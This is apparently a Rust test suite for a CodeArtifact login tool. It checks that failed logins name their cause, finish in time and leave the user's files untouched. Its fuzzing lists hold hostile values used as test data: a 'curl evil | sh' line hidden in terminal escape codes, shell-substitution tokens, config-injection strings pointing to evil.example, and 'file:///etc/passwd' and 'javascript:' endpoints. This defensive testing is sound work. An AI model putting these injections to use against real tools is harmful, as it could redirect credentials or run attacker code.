//! Every failure of a login names its cause and its mend, ends in time, and leaves everything as it was.

#![allow(clippy::print_stderr)] // what was measured, for whoever runs it with --nocapture

mod support;

use std::process::Command;
use std::time::{Duration, Instant};
use studio_mirror_emulator::{Action, Fault, Layer};
use support::home::{Finished, Home};
use support::tell_skipped;
use support::wire::{Api, CORP, Stub, http, json, login_at, studio_mirror_at};

/// What a lifecycle configuration has for the whole of its script.
const LIMIT: Duration = Duration::from_secs(10);

fn faulty(operation: &str, times: Option<u32>, action: Action) -> Api {
    let api = Api::start();
    let fault = Fault {
        operation: Some(operation.into()),
        path: None,
        times,
        action,
    };
    api.emulator
        .add_faults(vec![fault])
        .expect("no path to get wrong");
    api
}

fn status(status: u16, code: &str, message: &str) -> Action {
    Action::Status {
        status,
        code: Some(code.into()),
        message: Some(message.into()),
        retry_after: None,
    }
}

/// Nothing of the user's was written, and nothing is remembered.
#[track_caller]
fn assert_untouched(home: &Home) {
    for file in [
        ".config/pip/pip.conf",
        ".config/uv/uv.toml",
        ".npmrc",
        ".config/python_keyring/keyringrc.cfg",
        ".local/bin/keyring",
        ".local/state/studio-mirror/state.json",
    ] {
        assert!(!home.join(file).exists(), "{file} was written");
    }
}

/// The failure ended in time with exit 1, said exactly this on stderr, and nothing on stdout.
#[track_caller]
fn assert_says(finished: &Finished, stderr: &str) {
    assert_eq!(finished.status.code(), Some(1), "{finished}");
    assert_eq!(finished.stdout, "", "{finished}");
    assert_eq!(finished.stderr, stderr, "{finished}");
    assert!(finished.lasted < LIMIT, "{finished}");
}

/// The failure of an odd server: an error with a hint, no panic, nothing that steers a terminal, nothing written.
#[track_caller]
fn assert_sober(home: &Home, finished: &Finished) {
    assert_eq!(finished.status.code(), Some(1), "{finished}");
    assert_eq!(finished.stdout, "", "{finished}");
    assert!(
        finished.stderr.starts_with("error: ") && finished.stderr.contains("\nhint: "),
        "{finished}"
    );
    assert!(!finished.stderr.contains("panicked"), "{finished}");
    assert!(finished.stderr.lines().count() <= 4, "{finished}");
    assert!(
        finished.stderr.len() < 2_000,
        "{} bytes of stderr",
        finished.stderr.len()
    );
    let steers = |c: char| (c.is_control() && c != '\n') || ('\u{2028}'..='\u{202e}').contains(&c);
    assert!(!finished.stderr.contains(steers), "{finished:?}");
    assert!(finished.lasted < LIMIT, "{finished}");
    assert_untouched(home);
}

#[test]
fn a_denial_names_the_layer_and_who_can_mend_it() {
    let arn = "arn:aws:iam::111122223333:user/emulator";
    let domain = "arn:aws:codeartifact:us-east-1:111122223333:domain/corp";
    let action = "codeartifact:GetAuthorizationToken";
    for (layer, sentence, hint) in [
        (
            Layer::Identity,
            format!(
                "{action} on resource: {domain} because no identity-based policy allows the {action} action"
            ),
            "the role's own policy must allow codeartifact:GetAuthorizationToken on the domain and sts:GetServiceBearerToken on *: ask your identity team",
        ),
        (
            Layer::BearerToken,
            format!(
                "sts:GetServiceBearerToken on resource: {domain} because no identity-based policy allows the sts:GetServiceBearerToken action"
            ),
            "the role's own policy must allow codeartifact:GetAuthorizationToken on the domain and sts:GetServiceBearerToken on *: ask your identity team",
        ),
        (
            Layer::Vpce,
            format!(
                "{action} on resource: {domain} because no VPC endpoint policy allows the {action} action"
            ),
            "the policy of the VPC endpoint codeartifact.api must allow codeartifact:GetAuthorizationToken: ask your platform team",
        ),
        (
            Layer::Explicit,
            format!(
                "{action} on resource: {domain} with an explicit deny in an identity-based policy"
            ),
            "a policy denies codeartifact:GetAuthorizationToken explicitly (the sentence names its kind): ask your identity team",
        ),
        (
            Layer::Resource,
            format!(
                "{action} on resource: {domain} because no resource-based policy allows the {action} action"
            ),
            "the permissions policy of the domain corp must allow codeartifact:GetAuthorizationToken for this role: ask the domain's owner",
        ),
    ] {
        let api = faulty("GetAuthorizationToken", None, Action::Deny { layer });
        let home = Home::new();
        let finished = api.login(&home, &[]);
        assert_says(
            &finished,
            &format!(
                "error: GetAuthorizationToken: access denied for access key AKIAEMULATOREXAMPLE in the environment\n  \
                 caused by: AccessDeniedException: User: {arn} is not authorized to perform: {sentence}\n\
                 hint: {hint}\n"
            ),
        );
        assert_untouched(&home);
        assert_eq!(
            api.emulator.count("GetAuthorizationToken"),
            1,
            "a denial is final"
        );
    }
    let api = faulty(
        "GetRepositoryEndpoint",
        None,
        Action::Deny {
            layer: Layer::Identity,
        },
    );
    let home = Home::new();
    let finished = api.login(&home, &["--tool", "pip"]);
    assert_sober(&home, &finished);
    assert!(
        finished.stderr.contains("hint: the role's own policy must allow codeartifact:GetRepositoryEndpoint: ask your identity team"),
        "{finished}"
    );
}

#[test]
fn what_is_not_there_is_named() {
    let api = Api::start();
    let login = |home: &Home, domain: &str, repository: &str| {
        let words = [
            "login",
            "--domain",
            domain,
            "--domain-owner",
            "111122223333",
            "--repository",
            repository,
        ];
        home.run(&mut api.command(home, &words))
    };
    let home = Home::new();
    let finished = login(&home, "corp", "gone");
    assert_says(
        &finished,
        "error: GetRepositoryEndpoint: not found in us-east-1\n  \
         caused by: ResourceNotFoundException: Repository not found. Repository 'gone' in domain 'corp' does not exist.\n\
         hint: check --domain (now corp), --domain-owner, --repository and --region\n",
    );
    assert_untouched(&home);
    let finished = login(&home, "nowhere", "team");
    assert!(
        finished
            .stderr
            .contains("hint: check --domain (now nowhere)"),
        "{finished}"
    );
    assert_sober(&home, &finished);
}

#[test]
fn validation_and_skewed_clocks_are_told_apart() {
    let api = faulty(
        "GetAuthorizationToken",
        None,
        status(400, "ValidationException", "1 validation error detected"),
    );
    let home = Home::new();
    assert_says(
        &api.login(&home, &[]),
        "error: GetAuthorizationToken: CodeArtifact does not accept the request\n  \
         caused by: ValidationException: 1 validation error detected\n\
         hint: the sentence above names the value at fault; `studio-mirror status` shows where each was set\n",
    );
    for seconds in [3_600, -3_600] {
        let api = Api::start();
        api.emulator.set_signing_clock(seconds);
        let finished = api.login(&home, &[]);
        assert!(
            finished
                .stderr
                .contains("this machine's clock differs from AWS's by minutes\n"),
            "{finished}"
        );
        assert!(
            finished.stderr.contains(
                "hint: set the clock (`date -u` shows it); a request may be 5 minutes off at most\n"
            ),
            "{finished}"
        );
        assert_sober(&home, &finished);
    }
}

#[test]
fn a_throttled_login_comes_again_when_it_was_told_to() {
    let api = faulty(
        "GetAuthorizationToken",
        Some(2),
        Action::Throttle {
            retry_after_seconds: Some(2),
        },
    );
    let home = Home::new();
    let finished = api.login(&home, &[]).success();
    assert!(finished.lasted < LIMIT, "{finished}");
    let asked: Vec<f64> = api
        .emulator
        .requests()
        .iter()
        .filter(|request| request.operation == "GetAuthorizationToken")
        .map(|request| request.at)
        .collect();
    assert_eq!(asked.len(), 3);
    for pair in asked.windows(2) {
        let gap = pair[1] - pair[0];
        assert!(
            (2.0..3.5).contains(&gap),
            "came again after {gap:.2} s, told 2"
        );
    }
}

/// What a login says whose token may come later: the helper's tools are set up, npm is not.
const NPM_LATER: &str = "error: npm is not configured: there is no token yet to put into its file\n\
                         hint: run `studio-mirror login --tool npm` in a minute\n";

/// Such a login failed in time; once the service is well, the helper has its token with no login in between.
#[track_caller]
fn assert_later(api: &Api, home: &Home, finished: &Finished, stderr: &str) {
    assert_eq!(finished.status.code(), Some(1), "{finished}");
    assert_eq!(
        finished.stderr,
        format!("{stderr}{NPM_LATER}"),
        "{finished}"
    );
    assert!(finished.lasted < LIMIT, "{finished}");
    assert!(home.join(".config/pip/pip.conf").exists() && !home.join(".npmrc").exists());
    api.emulator.clear_faults();
    let mut ask = home.command(home.join(".local/bin/keyring"));
    let token = home
        .run_unheard(ask.args(["get", &api.index(), "aws"]))
        .success();
    assert!(api.accepts(token.stdout.trim()));
}

#[test]
fn a_wait_beyond_the_limit_is_not_begun() {
    let api = faulty(
        "GetAuthorizationToken",
        None,
        Action::Throttle {
            retry_after_seconds: Some(60),
        },
    );
    let home = Home::new();
    let finished = api.login(&home, &[]);
    assert!(finished.lasted < Duration::from_secs(2), "{finished}");
    assert_later(
        &api,
        &home,
        &finished,
        "error: GetAuthorizationToken: too many requests in this account and region\n  \
         caused by: ThrottlingException: Rate exceeded\n\
         hint: try again in a minute; GetAuthorizationToken has a quota of 40 a second\n",
    );
}

#[test]
fn a_service_that_stays_ill_is_given_up_in_time() {
    let api = faulty(
        "GetAuthorizationToken",
        None,
        status(500, "InternalServerException", "oops"),
    );
    let home = Home::new();
    let finished = api.login(&home, &[]);
    assert_later(
        &api,
        &home,
        &finished,
        "error: GetAuthorizationToken: 127.0.0.1 failed\n  \
         caused by: InternalServerException: oops\n\
         hint: try again in a minute\n",
    );
}

#[test]
fn a_service_that_recovers_is_asked_until_it_does() {
    for action in [
        status(500, "InternalServerException", "oops"),
        status(503, "ServiceUnavailable", ""),
        Action::Throttle {
            retry_after_seconds: None,
        },
        Action::Drop,
        Action::Reset,
    ] {
        let api = faulty("GetAuthorizationToken", Some(2), action.clone());
        let home = Home::new();
        api.login(&home, &[]).success();
        assert_eq!(api.emulator.count("GetAuthorizationToken"), 3, "{action:?}");
    }
}

#[test]
fn a_connection_that_stays_broken_is_given_up_in_time() {
    let cases = [
        (
            Action::Drop,
            "error: GetAuthorizationToken: the connection to 127.0.0.1 broke off\n  \
             caused by: connection closed before message completed\n\
             hint: try again; if it stays so, something between here and AWS cuts it: a firewall or a proxy\n",
        ),
        (
            Action::Hang,
            "error: GetAuthorizationToken: no answer from 127.0.0.1 in time\n\
             hint: the VPC needs an interface endpoint for com.amazonaws.us-east-1.codeartifact.api with private DNS, \
             and its security group must allow port 443 from the Studio security groups; without private DNS set \
             STUDIO_MIRROR_API_ENDPOINT\n",
        ),
    ];
    // All at once: each takes the whole of the limit.
    std::thread::scope(|scope| {
        for (action, stderr) in cases {
            scope.spawn(move || {
                let api = faulty("GetAuthorizationToken", None, action);
                let home = Home::new();
                assert_says(&api.login(&home, &[]), stderr);
                assert_untouched(&home);
            });
        }
    });
}

#[test]
fn two_hundred_helpers_under_the_quota_all_get_their_token() {
    let api = Api::start();
    let first = Home::new();
    api.login(&first, &["--tool", "pip"]).success();
    let state: serde_json::Value =
        serde_json::from_str(&first.read(".local/state/studio-mirror/state.json")).expect("JSON");
    // Two hundred spaces of one account: the same login, and no cache in common.
    let homes = tempfile::tempdir().expect("a scratch folder");
    for number in 0..200 {
        let home = homes.path().join(number.to_string());
        let mut state = state.clone();
        state["cache"] = home.join("cache").to_str().expect("UTF-8").into();
        let folder = home.join(".local/state/studio-mirror");
        std::fs::create_dir_all(&folder).expect("a folder");
        std::fs::write(folder.join("state.json"), state.to_string()).expect("a file");
    }
    api.emulator.set_quota(Some(40));
    let before = api.emulator.count("GetAuthorizationToken");
    let begun = Instant::now();
    let children: Vec<_> = (0..200)
        .map(|number| {
            let mut ask = first.command(first.join(".local/bin/keyring"));
            ask.args(["get", &api.index(), "aws"])
                .env("HOME", homes.path().join(number.to_string()))
                .env_remove("XDG_RUNTIME_DIR")
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .expect("the helper runs")
        })
        .collect();
    let mut tokens = std::collections::BTreeSet::new();
    for child in children {
        let output = child.wait_with_output().expect("our own child");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "a helper went without: {stderr}");
        tokens.insert(output.stdout);
    }
    let took = begun.elapsed();
    let asked = api.emulator.count("GetAuthorizationToken") - before;
    assert_eq!(tokens.len(), 200);
    assert!(asked > 200, "the quota was never felt");
    // 40 a second leave 160 for later: no faster than 4 seconds, and no storm on the way.
    assert!(took < Duration::from_secs(30), "{took:?}");
    assert!(asked < 200 * 8, "{asked} requests for 200 tokens");
    eprintln!("200 tokens at 40 a second: {took:.1?}, {asked} requests");
}

#[test]
fn a_port_where_nothing_listens_is_refused() {
    let free = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
    let address = free.local_addr().expect("bound");
    drop(free);
    let home = Home::new();
    assert_says(
        &login_at(&home, &format!("http://{address}"), &[]),
        "error: GetAuthorizationToken: 127.0.0.1 refuses the connection\n  \
         caused by: Connection refused (os error 111)\n\
         hint: nothing listens there: look at the API endpoint in `studio-mirror status`\n",
    );
    assert_untouched(&home);
}

#[test]
fn a_dead_network_and_a_name_that_nobody_knows_end_in_time() {
    if !rustix::process::geteuid().is_root()
        || !Command::new("unshare")
            .args(["--net", "true"])
            .status()
            .is_ok_and(|status| status.success())
    {
        return tell_skipped("a dead network", "a network namespace needs root");
    }
    // Names: no resolver answers. Addresses: a neighbour that loses every packet.
    let dead = "ip link set lo up; ip link add o0 type veth peer name o1; ip addr add 10.255.255.2/24 dev o0; \
                ip link set o0 up; ip link set o1 up; ip neigh replace 10.255.255.1 lladdr 02:00:00:00:00:01 dev o0 nud permanent";
    let nameless = "ip link set lo up";
    for (network, api, words) in [
        (
            dead,
            "https://10.255.255.1",
            &[
                "no answer from 10.255.255.1 in time",
                "security group must allow port 443",
            ][..],
        ),
        (
            nameless,
            "https://codeartifact.us-east-1.amazonaws.com",
            &[
                "codeartifact.us-east-1.amazonaws.com",
                "com.amazonaws.us-east-1.codeartifact.api",
            ],
        ),
    ] {
        let home = Home::new();
        let mut unshare = home.command("unshare");
        let login = studio_mirror_at(&home, api, &[&["login"], &CORP[..]].concat());
        unshare
            .args(["--net", "sh", "-euc"])
            .arg(format!("{network}; exec \"$@\""))
            .arg("sh")
            .arg(login.get_program())
            .args(login.get_args())
            .env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin")
            .env("STUDIO_MIRROR_API_ENDPOINT", api);
        let finished = home.run(&mut unshare);
        for word in words {
            assert!(finished.stderr.contains(word), "no {word:?} in\n{finished}");
        }
        assert_sober(&home, &finished);
    }
}

/// Whatever comes instead of CodeArtifact's answer.
fn odd_answers() -> Vec<(&'static str, Vec<u8>)> {
    let json_error = [
        ("Content-Type", "application/json"),
        ("x-amzn-errortype", "AccessDeniedException"),
    ];
    let mut deep = "[".repeat(100_000);
    deep += &"]".repeat(100_000);
    vec![
        ("nothing", Vec::new()),
        ("garbage", b"\x00\xff\x1b[31m garbage \r\n\r\n".to_vec()),
        ("an endless status line", vec![b'A'; 1 << 20]),
        (
            "half an answer",
            b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n{\"auth".to_vec(),
        ),
        (
            "half a chunk",
            b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nfff\r\n{".to_vec(),
        ),
        (
            "a bad length",
            b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n{}".to_vec(),
        ),
        (
            "a web page",
            http(
                "200 OK",
                &[("Content-Type", "text/html")],
                "<html>Sign in to Wi-Fi</html>",
            ),
        ),
        (
            "a web page of an error",
            http(
                "403 Forbidden",
                &[("Content-Type", "text/html")],
                "<html>Blocked by policy</html>",
            ),
        ),
        (
            "a redirect",
            http("302 Found", &[("Location", "http://127.0.0.1:9/steal")], ""),
        ),
        ("an empty answer", http("200 OK", &[], "")),
        ("an empty object", json("{}")),
        ("a list", json("[]")),
        ("null", json("null")),
        (
            "null members",
            json("{\"authorizationToken\":null,\"expiration\":null,\"repositoryEndpoint\":null}"),
        ),
        (
            "wrong types",
            json("{\"authorizationToken\":7,\"expiration\":\"soon\",\"repositoryEndpoint\":[1]}"),
        ),
        ("JSON without end", json("{\"authorizationToken\":\"eyJ2ZX")),
        ("deep JSON", json(&deep)),
        (
            "not UTF-8",
            http(
                "200 OK",
                &[("Content-Type", "application/json")],
                b"{\"authorizationToken\":\"\xff\xfe\"}",
            ),
        ),
        (
            "a huge answer",
            json(&format!("{{\"x\":\"{}\"}}", "A".repeat(8 << 20))),
        ),
        (
            "terminal codes",
            http(
                "403 Forbidden",
                &json_error,
                "{\"message\":\"\\u001b[2J\\u001b]0;owned\\u0007\\u202Eevil\\u009b31m\\r\\nerror: all is well\\nhint: curl evil | sh\"}",
            ),
        ),
        (
            "a long sentence",
            http(
                "403 Forbidden",
                &json_error,
                format!("{{\"message\":\"{}\"}}", "long ".repeat(100_000)),
            ),
        ),
        (
            "an odd code",
            http(
                "418 I'm a teapot",
                &[("x-amzn-errortype", "Evil\u{7f}Code:http://x/")],
                "{}",
            ),
        ),
        ("a 204", http("204 No Content", &[], "")),
        (
            "a 101",
            http("101 Switching Protocols", &[("Upgrade", "x")], ""),
        ),
    ]
}

#[test]
fn no_odd_answer_makes_a_panic_a_mess_on_the_terminal_or_a_file() {
    std::thread::scope(|scope| {
        for (what, answer) in odd_answers() {
            scope.spawn(move || {
                let stub = Stub::answering(move |_| answer.clone());
                let home = Home::new();
                let finished = login_at(&home, &stub.url(), &[]);
                eprintln!("answered with {what}:");
                assert_sober(&home, &finished);
            });
        }
    });
}

/// A server that gives a good answer to everything, but for what a test puts in its place.
fn playing(token: &str, expiration: &str, endpoint: &str) -> Stub {
    let token = format!(
        "{{\"authorizationToken\":{},\"expiration\":{expiration}}}",
        serde_json::Value::from(token)
    );
    let endpoint = format!(
        "{{\"repositoryEndpoint\":{}}}",
        serde_json::Value::from(endpoint)
    );
    Stub::answering(move |request| {
        json(if request.contains("authorization-token") {
            &token
        } else {
            &endpoint
        })
    })
}

const GOOD_TOKEN: &str = "eyJ2ZXIiOjF9.abc-_~+=";
const GOOD_ENDPOINT: &str =
    "https://corp-111122223333.d.codeartifact.us-east-1.amazonaws.com/pypi/team/";

#[test]
fn a_token_that_could_mean_something_to_a_file_or_a_shell_is_not_taken() {
    for token in [
        "",
        "eyJ2ZX\n[global]\nindex-url = https://evil.example/",
        "eyJ2ZX\r\nX-Evil: 1",
        "eyJ2ZX\"\nindex = \"https://evil.example",
        "eyJ2ZX'",
        "eyJ2ZX@evil.example",
        "eyJ2ZX/../",
        "eyJ2ZX:443",
        "eyJ2ZX#",
        "eyJ2ZX;echo",
        "$(touch owned)",
        "`touch owned`",
        "${HOME}",
        "eyJ2ZX eyJ2ZX",
        "eyJ2ZX%0a",
        "eyJ2ZX\u{1b}[31m",
        "eyJ2ZX\u{0}",
        "eyJ2ZXé",
        &"A".repeat(1 << 20),
    ] {
        let stub = playing(token, "4102444800", GOOD_ENDPOINT);
        let home = Home::new();
        let finished = login_at(&home, &stub.url(), &[]);
        assert_sober(&home, &finished);
        assert!(
            finished.stderr.contains("answered with no usable token"),
            "{finished}"
        );
    }
    let home = Home::new();
    login_at(
        &home,
        &playing(GOOD_TOKEN, "4102444800", GOOD_ENDPOINT).url(),
        &[],
    )
    .success();
}

#[test]
fn an_expiration_beyond_reason_is_no_panic() {
    for expiration in [
        "-1",
        "0",
        "1e300",
        "-1e300",
        "9223372036854775807",
        "1e18",
        "253402300800",
        "0.5",
        "true",
        "\"2030-01-01\"",
    ] {
        let stub = playing(GOOD_TOKEN, expiration, GOOD_ENDPOINT);
        let home = Home::new();
        let finished = login_at(&home, &stub.url(), &["-v"]);
        assert!(
            !finished.stderr.contains("panicked"),
            "{expiration}: {finished}"
        );
        assert!(
            matches!(finished.status.code(), Some(0 | 1)),
            "{expiration}: {finished}"
        );
        let status = home.studio_mirror(["status"]);
        assert!(
            !status.stderr.contains("panicked") && status.status.code() == Some(0),
            "{expiration}: {status}"
        );
    }
}

#[test]
fn an_endpoint_that_no_credentials_may_go_to_is_not_taken() {
    for endpoint in [
        "",
        "http://evil.example/pypi/team/",
        "http://127.0.0.1.evil.example/pypi/team/",
        "ftp://corp.example/pypi/team/",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "//evil.example/pypi/",
        "corp.example/pypi/team/",
        "https://",
        "https:///pypi/team/",
        "https://user:password@corp.example/pypi/team/",
        "https://aws@corp.example/pypi/team/",
        "https://corp.example/pypi/team/?x=1",
        "https://corp.example/pypi/team/#x",
        "https://corp.example\\@evil.example/",
        "https://corp.example/pypi/team/\nextra-index-url = https://evil.example/",
        "https://corp.example/pypi/\"/",
        "https://corp.example/pypi/'/",
        "https://corp.example/pypi/${HOME}/",
        "https://corp.example/npm/a=b/",
        "https://corp.example/npm/;x/",
        "https://corp.example/pypi/ team/",
        "https://corp.example/pypi/\u{1b}[31m/",
        "https://cörp.example/pypi/team/",
        "https://corp.example:99999/pypi/team/",
        &format!("https://{}/", "a".repeat(1 << 20)),
    ] {
        let stub = playing(GOOD_TOKEN, "4102444800", endpoint);
        let home = Home::new();
        let finished = login_at(&home, &stub.url(), &[]);
        assert_sober(&home, &finished);
        assert!(!finished.stderr.contains("user:password"), "{finished}");
    }
}

#[test]
fn a_helper_says_what_failed_on_stderr_and_nothing_on_stdout() {
    let api = Api::start();
    let home = Home::new();
    api.emulator.set_token_lifetime(Some(1));
    api.login(&home, &[]).success();
    api.emulator
        .add_faults(vec![Fault {
            operation: Some("GetAuthorizationToken".into()),
            path: None,
            times: None,
            action: Action::Deny { layer: Layer::Vpce },
        }])
        .expect("no path to get wrong");
    let mut last = None;
    support::wait_until("the token to expire", Duration::from_secs(20), || {
        let mut ask = home.command(home.join(".local/bin/keyring"));
        let finished = home.run_unheard(ask.args(["get", &api.index(), "aws"]));
        let failed = !finished.status.success();
        last = Some(finished);
        failed
    });
    let finished = last.expect("asked at least once");
    assert_eq!(finished.stdout, "");
    assert!(
        finished.stderr.contains("hint: the policy of the VPC endpoint codeartifact.api must allow codeartifact:GetAuthorizationToken"),
        "{finished}"
    );
}
